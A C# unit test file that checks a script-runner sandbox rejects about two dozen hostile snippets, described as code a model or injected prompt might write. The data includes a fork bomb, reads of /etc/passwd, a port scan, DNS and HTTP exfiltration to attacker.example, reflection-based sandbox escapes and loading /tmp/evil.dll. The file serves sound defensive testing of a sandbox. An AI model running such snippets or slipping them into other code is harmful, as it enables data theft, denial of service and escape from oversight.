namespace ChainOfCode.Runtime.Tests;

/// <summary>The attack vectors of the guidelines, written the way a model (or an injected prompt) would: refused before anything runs.</summary>
public sealed class AttackVectorTests
{
    [Theory]
    [InlineData("fork bomb", """while (true) { System.Diagnostics.Process.Start("/bin/sh", "-c ':(){ :|:& };:'"); }""")]
    [InlineData("thread bomb", """for (var i = 0; i < 10000; i++) { new System.Threading.Thread(() => { while (true) { } }).Start(); }""")]
    [InlineData("thread pool flood", """for (var i = 0; i < 10000; i++) { System.Threading.ThreadPool.QueueUserWorkItem(_ => { }); }""")]
    [InlineData("file probe", """foreach (var f in System.IO.Directory.GetFiles("/")) { Console.WriteLine(f); }""")]
    [InlineData("file probe by stream", """using var s = new System.IO.StreamReader("/etc/passwd"); Console.Write(s.ReadToEnd());""")]
    [InlineData("file write", """System.IO.File.AppendAllText("/tmp/owned", "x");""")]
    [InlineData("network scan", """for (var port = 1; port < 1024; port++) { try { new System.Net.Sockets.TcpClient("10.0.0.1", port); } catch { } }""")]
    [InlineData("dns exfiltration", """System.Net.Dns.GetHostAddresses(Input + ".attacker.example");""")]
    [InlineData("http exfiltration", """await new System.Net.Http.HttpClient().GetStringAsync("http://attacker.example/?d=" + Input);""")]
    [InlineData("environment probe", """foreach (System.Collections.DictionaryEntry e in Environment.GetEnvironmentVariables()) { Console.WriteLine(e.Key); }""")]
    [InlineData("host information", """Console.WriteLine(Environment.MachineName + Environment.UserName);""")]
    [InlineData("reflection escape", """typeof(string).Assembly.GetType("System.IO.File").GetMethod("ReadAllText", new[] { typeof(string) }).Invoke(null, new object[] { "/etc/passwd" });""")]
    [InlineData("activator escape", """var o = Activator.CreateInstance(Type.GetType("System.IO.FileInfo"), "/etc/passwd");""")]
    [InlineData("dynamic escape", """dynamic d = "x"; d.Foo();""")]
    [InlineData("assembly load", """System.Reflection.Assembly.LoadFrom("/tmp/evil.dll");""")]
    [InlineData("native memory", """var p = System.Runtime.InteropServices.Marshal.AllocHGlobal(1 << 30);""")]
    [InlineData("unsafe pointer", """unsafe { var p = (int*)0x1000; *p = 1; }""")]
    [InlineData("process exit", """Environment.FailFast("bye");""")]
    [InlineData("runtime control", """GC.Collect(); AppContext.SetSwitch("x", true);""")]
    [InlineData("guard reset", """ChainOfCode.Runtime.ScriptRunner.Shared.Reset();""")]
    [InlineData("script directive", "#r \"/tmp/evil.dll\"\nConsole.WriteLine(1);")]
    [InlineData("console hijack", """Console.SetOut(new System.IO.StringWriter());""")]
    [InlineData("timer by WaitAsync", """await System.Threading.Tasks.Task.CompletedTask.WaitAsync(TimeSpan.FromSeconds(1));""")]
    [InlineData("reflection by JSON metadata", """var info = System.Text.Json.JsonSerializerOptions.Default.GetTypeInfo(typeof(List<int>)); var made = info.CreateObject();""")]
    [InlineData("stack growth by stackalloc in a loop", """while (true) { Span<int> chunk = stackalloc int[16]; }""")]
    [InlineData("expression compile", """System.Linq.Expressions.Expression.Lambda<Func<int>>(System.Linq.Expressions.Expression.Constant(1)).Compile()();""")]
    public async Task An_attack_is_refused_before_it_runs(string vector, string code)
    {
        ScriptResult result = await Scripts.RunHostileAsync(code);

        Assert.True(result.Status == ScriptStatus.Rejected, $"{vector}: {result.Status} {result.Error}");
        Assert.Equal(string.Empty, result.Output);
        Assert.Equal(0, result.Usage.Steps);
    }
}
